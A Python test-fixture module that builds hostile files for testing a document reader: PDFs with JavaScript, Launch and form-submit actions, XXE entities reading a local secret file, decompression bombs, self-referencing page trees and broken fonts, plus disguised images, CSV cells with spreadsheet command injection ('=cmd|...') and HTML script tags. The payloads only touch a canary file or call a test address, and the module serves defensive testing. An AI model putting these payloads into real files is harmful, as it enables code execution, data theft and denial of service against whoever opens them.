"""Hostile files for the tests of read(), made here: PDFs that want to run, fetch, circle or swell, and texts like that.

Each file says in some way where it would leave a mark: CANARY is a file that a launched program would make, SECRET a
file beside it whose words no document may hold, and the address that of a server that nobody may ask.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

CANARY, SECRET = "launched.txt", "secret.txt"
SECRET_WORDS = "The combination of the vault is seven nine three"
WORDS = "The pump lifts water from the well into the tank on the roof and stops when the tank is full."


class Place(NamedTuple):
    """Where a file is put, and the address of a server beside it."""

    folder: Path
    address: str

    @property
    def run(self) -> str:
        """A command that would leave a mark."""
        return f"touch {self.folder / CANARY}"


def pdf(objects: dict[int, bytes | str], root: int = 1, prefix: bytes = b"") -> bytes:
    """Write a PDF from its objects; numbers may be left out, and nothing is checked."""
    out = bytearray(prefix + b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        body = body.encode("latin-1") if isinstance(body, str) else body
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    most = max(objects) + 1
    out += f"xref\n0 {most}\n0000000000 65535 f \n".encode()
    for number in range(1, most):
        out += f"{places[number]:010d} 00000 n \n".encode() if number in places else b"0000000000 00000 f \n"
    return bytes(out + f"trailer\n<</Size {most}/Root {root} 0 R>>\nstartxref\n{start}\n%%EOF\n".encode())


def stream(data: bytes, entries: str = "", packed: bool = False) -> bytes:
    if packed:
        data, entries = zlib.compress(data, 9), entries + "/Filter/FlateDecode"
    return f"<</Length {len(data)}{entries}>>\nstream\n".encode("latin-1") + data + b"\nendstream"


def page(text: str = WORDS, *, catalog: str = "", entries: str = "", content: bytes | None = None,
         box: str = "[0 0 595 842]", fonts: str = "/F 5 0 R", resources: str = "", more: dict | None = None) -> bytes:
    """Write a PDF of one page with a line of text; ``more`` are objects from number 6 on."""
    shown = content if content is not None else f"BT /F 11 Tf 60 700 Td ({text}) Tj ET".encode("latin-1")
    return pdf({
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox {box}/Contents 4 0 R/Resources<</Font<<{fonts}>>{resources}>>"
           f"{entries}>>",
        4: stream(shown), 5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", **(more or {})})


def _actions(at: Place) -> Iterator[tuple[str, bytes]]:
    """Actions that a viewer may carry out when the file is opened, a page is seen or a place is clicked."""
    script = f"app.launchURL('{at.address}/script', true); this.exportDataObject({{cName: 'x', nLaunch: 2}});"
    javascript = f"<</S/JavaScript/JS({_string(script)})>>"
    launch = f"<</S/Launch/F({at.run})/Win<</F(cmd.exe)/P(/c echo > {at.folder / CANARY})>>/Unix<</F({at.run})>>>>"
    elsewhere = f"<</FS/URL/F({at.address}/elsewhere)>>"
    rect = "/Rect[50 600 500 800]/Border[0 0 0]"
    for name, action in {
            "script": javascript, "launch": launch,
            "chain": f"<</S/URI/URI({at.address}/uri)/Next[{javascript}{launch}]>>",
            "remote": f"<</S/GoToR/F({at.folder / SECRET})/D[0/Fit]/Next<</S/GoToE/F {elsewhere}/D[0/Fit]>>>>",
            "form": f"<</S/SubmitForm/F {elsewhere}/Flags 4/Next<</S/ImportData/F({at.folder / SECRET})>>>>"}.items():
        yield f"action-{name}", page(
            catalog=f"/OpenAction {action}/AA<</WC {action}>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>",
            entries=f"/AA<</O {action}>>/Annots[<</Type/Annot/Subtype/Link{rect}/A {action}>>"
                    f"<</Type/Annot/Subtype/Widget{rect}/FT/Tx/T(x)/V(y)/AA<</F {action}/K {action}/C {action}>>>>"
                    f"<</Type/Annot/Subtype/Screen{rect}/A {action}>>]", more={6: action})


def _parts(at: Place) -> Iterator[tuple[str, bytes]]:
    """Files within, and parts that are to be taken from elsewhere."""
    yield "embedded-file", page(
        catalog="/Names<</EmbeddedFiles<</Names[(run.exe) 6 0 R]>>>>/AF[6 0 R]",
        entries="/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[10 10 30 30]/FS 6 0 R>>]",
        more={6: "<</Type/Filespec/F(../../run.exe)/UF(../../run.exe)/EF<</F 7 0 R>>>>",
              7: stream(b"MZ" + SECRET_WORDS.encode(), "/Type/EmbeddedFile")})
    form = (f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE x [<!ENTITY e SYSTEM "{at.address}/entity">]>'
            '<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><event activity="initialize">'
            f'<script contentType="application/x-javascript">app.launchURL("{at.address}/xfa")</script></event>&e;'
            '</subform></template></xdp:xdp>').encode()
    yield "xfa", page(catalog="/AcroForm<</XFA 6 0 R/Fields[]>>/NeedsRendering true", more={6: stream(form)})
    yield "xmp-entity", page(catalog="/Metadata 6 0 R", more={6: stream(
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{at.folder / SECRET}">]><x>&e;</x>'.encode(),
        "/Type/Metadata/Subtype/XML")})
    specs = (f"({at.folder / SECRET})", f"({SECRET})", f"<</FS/URL/F({at.address}/stream)>>")
    empty = "/Length 0>>\nstream\n\nendstream"
    images = {6 + number: "<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8"
              f"/F {spec}{empty}" for number, spec in enumerate(specs)}
    forms = {9 + number: f"<</Type/XObject/Subtype/Form/Ref<</F {spec}/Page 0>>/BBox[0 0 99 99]/F {spec}{empty}"
             for number, spec in enumerate(specs)}
    shown = "".join(f" /X{number} Do" for number in images | forms)
    yield "external-pictures", page(
        content=f"BT /F 11 Tf 60 700 Td ({WORDS}) Tj ET{shown}".encode(), entries="/Thumb 6 0 R", more=images | forms,
        resources=f"/XObject<<{''.join(f'/X{number} {number} 0 R' for number in images | forms)}>>")
    for number, spec in enumerate(specs):
        yield f"external-content-{number}", page(more={4: f"<</F {spec}{empty}"})


def _circles(at: Place) -> Iterator[tuple[str, bytes]]:
    """What leads back to itself, and what never ends."""
    yield "kids-of-itself", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"})
    yield "kids-in-a-ring", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 9>>",
                                 3: "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>"})
    yield "root-is-a-page", pdf({1: "<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 3>>"})
    yield "count-of-a-million", page().replace(b"/Count 1>>", b"/Count 1000000>>")
    yield "count-below-zero", page().replace(b"/Count 1>>", b"/Count -7>>")
    depth = 10_000
    yield "tree-10000-deep", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", **{
        place: f"<</Type/Pages/Kids[{place + 1} 0 R]/Count 1/Parent {place - 1} 0 R>>" for place in range(2, depth)},
        depth: f"<</Type/Page/Parent {depth - 1} 0 R/MediaBox[0 0 200 200]>>"})
    yield "outlines", page(catalog="/Outlines 6 0 R/PageMode/UseOutlines", more={
        6: "<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
        7: "<</Title(a)/Parent 6 0 R/First 7 0 R/Last 7 0 R/Next 7 0 R/Prev 7 0 R/Count 1/Dest[3 0 R/Fit]>>"})
    yield "form-draws-itself", page(content=b"/X Do", resources="/XObject<</X 6 0 R>>", more={
        6: stream(b"/X Do /X Do BT /F 9 Tf (round and round) Tj ET",
                  "/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Resources<</XObject<</X 6 0 R>>/Font<</F 5 0 R>>>>")})
    doubling = {number: stream(f"/X{number + 1} Do /X{number + 1} Do".encode(),
                               "/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Resources<</XObject<<"
                               f"/X{number + 1} {number + 1} 0 R>>>>") for number in range(6, 16)}
    yield "forms-that-double", page(content=b"/X6 Do", resources="/XObject<</X6 6 0 R>>", more={
        **doubling, 16: stream(b"0 0 9 9 re f", "/Type/XObject/Subtype/Form/BBox[0 0 500 500]")})
    yield "type3-draws-itself", page("aaa", more={6: stream(b"500 0 d0 BT /F 9 Tf (a) Tj ET")}).replace(
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
        b"/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/Resources<</Font<</F 5 0 R>>>>>>")
    yield "parent-of-itself", page().replace(b"/Parent 2 0 R", b"/Parent 3 0 R")
    yield "length-of-itself", page().replace(b"4 0 obj\n<</Length ", b"4 0 obj\n<</Length 4 0 R/Old ")
    yield "xref-before-itself", _prev(page())
    yield "nested-arrays", page(entries="/X " + "[" * 20_000 + "]" * 20_000)
    yield "nested-states", page(content=b"q " * 50_000 + b"BT /F 11 Tf 60 700 Td (" + WORDS.encode() + b") Tj ET")
    yield "annotations", page(entries="/Annots[" + "<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(x)>>" * 300 + "]")


def _boxes(at: Place) -> Iterator[tuple[str, bytes]]:
    """Pages of no size, or of any."""
    for name, box in {"huge": "[0 0 1e9 1e9]", "vast": "[-2147483648 -2147483648 2147483647 2147483647]",
                      "zero": "[0 0 0 0]", "line": "[0 0 595 0]", "negative": "[0 0 -595 -842]",
                      "nan": "[nan nan nan nan]", "words": "[/a/b/c/d]", "infinite": "[0 0 1e400 -1e400]",
                      "short": "[0 0]", "null": "null",
                      "sliver": "[0 0 14000 0.01]", "far": "[1e15 1e15 1.0000001e15 1.0000001e15]"}.items():
        yield f"box-{name}", page(box=box)
    yield "box-crop-outside", page(entries="/CropBox[9000 9000 9999 9999]")
    yield "box-unit", page(entries="/UserUnit 75000")
    yield "box-turn", page(entries="/Rotate 45.5")
    yield "box-turn-far", page(entries="/Rotate 99999999999")


def _bombs(at: Place) -> Iterator[tuple[str, bytes]]:
    """Little that unpacks to much; kept small enough for a test, a limit is a matter of its own."""
    said = b"BT /F 11 Tf 60 700 Td (" + WORDS.encode() + b") Tj ET"
    yield "bomb-content", page(more={4: stream(b" " * 60_000_000 + said, packed=True)})
    inner = zlib.compress(zlib.compress(b"\0" * 50_000_000 + said, 9), 9)
    yield "bomb-twice-packed", page(more={4: stream(inner, "/Filter[/FlateDecode/FlateDecode]")})
    yield "bomb-filters", page(more={4: stream(b"x" * 100, "/Filter[" + "/ASCIIHexDecode/RunLengthDecode" * 500 + "]")})
    yield "bomb-image", page(content=b"q 500 0 0 500 40 200 cm /I Do Q", resources="/XObject<</I 6 0 R>>", more={
        6: stream(b"\0" * 30_000_000, "/Type/XObject/Subtype/Image/Width 15000/Height 16000/ColorSpace/DeviceGray"
                  "/BitsPerComponent 1", packed=True)})
    yield "bomb-image-that-lies", page(
        content=b"q 500 0 0 500 40 200 cm /I Do Q", resources="/XObject<</I 6 0 R>>",
        more={6: stream(b"\0" * 100, "/Type/XObject/Subtype/Image/Width 2000000000/Height 2000000000"
                        "/ColorSpace/DeviceCMYK/BitsPerComponent 16", packed=True)})
    yield "bomb-predictor", page(more={4: stream(
        zlib.compress(b"\0" * 1000), "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 99>>")})


def _fonts(at: Place) -> Iterator[tuple[str, bytes]]:
    """Fonts that lie about what is printed, and print that nobody sees."""
    targets = ("0000", "d800", "dfff", "fffe", "202e", "0001", "001b", "000a")
    mapped = "\n".join(f"<{code:02x}> <{targets[code % 8]}>" for code in range(97, 123))
    cmap = ("/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange "
            f"26 beginbfchar\n{mapped}\nendbfchar endcmap").encode()
    broken = {"map-to-nothing": (cmap, "/ToUnicode 6 0 R"), "map-garbage": (b"\xff" * 3000, "/ToUnicode 6 0 R"),
              "map-of-itself": (b"/UseCMap", "/ToUnicode 5 0 R"), "file-garbage": (b"\0\1\0\0" + b"\xff" * 500, (
                  "/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 6 0 R>>/FirstChar -9"
                  "/LastChar 99999999/Widths[1e30 -5 null]"))}
    for name, (data, entries) in broken.items():
        yield f"font-{name}", page(more={6: stream(data), 5: f"<</Type/Font/Subtype/TrueType/BaseFont/X{entries}>>"})
    yield "font-range", page(more={5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", 6: stream(
        b"begincmap 1 beginbfrange <00> <ffffffff> <0041> endbfrange endcmap")})
    yield "font-size", page(content=b"BT /F 1e30 Tf 60 700 Td (" + WORDS.encode() + b") Tj ET")
    yield "font-of-no-kind", page(fonts="/F 3 0 R")
    yield "text-unseen", page(content=b"BT /F 11 Tf 3 Tr 60 700 Td (" + WORDS.encode() + b") Tj ET")
    yield "text-behind-a-picture", page(
        content=b"BT /F 11 Tf 60 700 Td (" + WORDS.encode() + b") Tj ET q 595 0 0 842 0 0 cm /I Do Q",
        resources="/XObject<</I 6 0 R>>",
        more={6: stream(b"\xff", "/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray"
                        "/BitsPerComponent 8")})
    yield "text-off-the-page", page(content=b"BT /F 11 Tf 6000 7000 Td (" + WORDS.encode() + b") Tj ET")
    yield "text-of-no-size", page(content=b"BT /F 0 Tf 60 700 Td (" + WORDS.encode() + b") Tj ET")
    said = b"cm BT /F 11 Tf 60 700 Td (" + WORDS.encode() + b") Tj ET"
    yield "matrix-of-nothing", page(content=b"0 0 0 0 0 0 " + said)
    yield "matrix-without-end", page(content=b"1e30 1e30 -1e30 1e30 1e38 0 " + said)


def _frames(at: Place) -> Iterator[tuple[str, bytes]]:
    """Files whose frame is broken."""
    whole = page()
    yield "encrypt-unknown", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Nobody/V 99>>/ID[(a)(b)]")
    yield "encrypt-of-itself", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 1 0 R")
    yield "late-head", b"<html><script>alert(1)</script></html>\n" * 10 + whole
    yield "half", whole[:len(whole) // 2]
    yield "head-alone", b"%PDF-1.7\n"
    yield "no-objects", b"%PDF-1.7\ntrailer<</Root 1 0 R/Size 99999999>>\nstartxref\n999999999999\n%%EOF"
    yield "web-page", f'<html><img src="{SECRET}"><img src="{at.address}/img"><p>{WORDS}</p></html>'.encode()


def _images(at: Place) -> dict[str, bytes]:
    """What is called a picture, and is something else; and pictures that lie about their size."""
    head = b"\x89PNG\r\n\x1a\n"

    def part(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    def png(width: int, height: int, data: bytes) -> bytes:
        size = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\1\0\0\0\0"
        return head + part(b"IHDR", size) + part(b"IDAT", zlib.compress(data, 9)) + part(b"IEND", b"")

    return {
        "vector.png": (f'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><text x="9" y="20">{WORDS}'
                       f'</text><script>fetch("{at.address}")</script><image href="{at.address}/svg" width="9"/></svg>'
                       ).encode(),
        "page.png": f"<html><p>{WORDS}</p><img src='{at.address}/img'></html>".encode(),
        "words.jpg": (SECRET_WORDS + "\n").encode() * 3,
        "lies.png": png(60_000, 60_000, b"\0" * 10_000),
        "vast.png": png(2**31 - 1, 2**31 - 1, b"\0"),
        "nothing.png": png(0, 0, b""),
        "swells.png": png(20_000, 10_000, b"\0" * (2501 * 10_000)),
        "head.tif": b"II*\0\x08\0\0\0" + b"\xff" * 40,
        "ring.tif": b"II*\0\x08\0\0\0\0\0\x08\0\0\0",
        "head.bmp": b"BM" + b"\xff" * 60,
    }


def _texts(at: Place) -> dict[str, bytes]:
    """Tables and texts: cells that a spreadsheet computes, HTML without end, fields without end, bytes of two minds."""
    deep = "<div>" * 30_000 + WORDS + "</div>" * 30_000
    tables = "<table><tr><td>" * 2000 + WORDS
    return {
        "formulas.csv": f"name,value\nmall,\"=HYPERLINK(\"\"{at.address}\"\",\"\"x\"\")\"\nshop,=cmd|'/c {at.run}'!A1\n"
                        "pool,@SUM(A1)\nmine,-5 °C\n".encode(),
        "null.csv": b"a,b\n1\x00\x00,2\n\x00,\x00\n" + b"\x00" * 500,
        "field.csv": b"a,b\n1," + b"x" * 3_000_000 + b"\n",
        "field-without-end.csv": b'a,b\n1,"' + b"x\n" * 50_000,
        "columns.csv": b",".join(b"c%d" % number for number in range(5000)) + b"\n" + b",".join([b"1"] * 5000),
        "deep.csv": f'name,text\nx,"{deep}"\ny,"{tables}"\n'.encode(),
        "spans.csv": b'name,text\nx,"<table><tr><td colspan=99999999 rowspan=99999999>a</td></tr><tr><td>b</td></tr>"',
        "marks.csv": f'name,text\nx,"{"<b>" * 2000}{WORDS}"\ny,"{"<a href=http://x.example>" * 1000}y"\n'.encode(),
        "script.csv": b'name,text\nx,"<script>alert(1)</script><p onclick=alert(2)>Words that are read.</p>'
                      b'<a href=javascript:alert(3)>link</a>"\n',
        "minds.csv": "name,text\nä,é\n".encode("cp1252") + "表,示\n".encode("cp932") + "한,글\n".encode(),
        "minds.txt": "Grüße.\n".encode() + "Grüße.\n".encode("cp1252") + "こんにちは\n".encode("utf-16"),
        "half.txt": "The tank is full.".encode("utf-16")[:-1],
        "null.txt": b"The tank\x00 is full.\x00\n" * 20,
        "line.txt": b"word " * 400_000,
        "lines.txt": b"\r" * 200_000 + WORDS.encode(),
        "escapes.txt": b"\x1b]0;title\x07\x1b[2J\x1b[31mThe tank is full.\x1b[0m\n" * 5,
        "backwards.txt": "The tank is \u202eylluf\u202c empty. \u200b\ufeff\u2066x\u2069\n".encode(),
        "accents.txt": ("a" + "\u0301" * 20_000 + " tank.\n").encode(),
        "fences.md": b"```\n" * 20_001 + WORDS.encode(),
        "quotes.md": b"> " * 30_000 + WORDS.encode() + b"\n" + b"- " * 30_000 + b"\n" + b"#" * 30_000 + b" x\n",
        "brackets.md": b"[" * 30_000 + b"](" * 30_000 + WORDS.encode() + b"\n" + b"*a_" * 20_000 + b"|" * 30_000,
    }


def hostile_files(at: Place) -> dict[str, bytes]:
    """Return the files by name."""
    kinds: list[Callable[[Place], Iterator[tuple[str, bytes]]]] = [_actions, _parts, _circles, _boxes, _bombs, _fonts,
                                                                   _frames]
    made = {f"{name}.pdf": data for kind in kinds for name, data in kind(at)}
    return made | _images(at) | _texts(at)


def _string(text: str) -> str:
    """Escape what ends a string of a PDF."""
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _prev(data: bytes) -> bytes:
    start = data.rindex(b"startxref") + len(b"startxref\n")
    place = data[start:].split(b"\n")[0]
    return data.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev " + place + b">>")
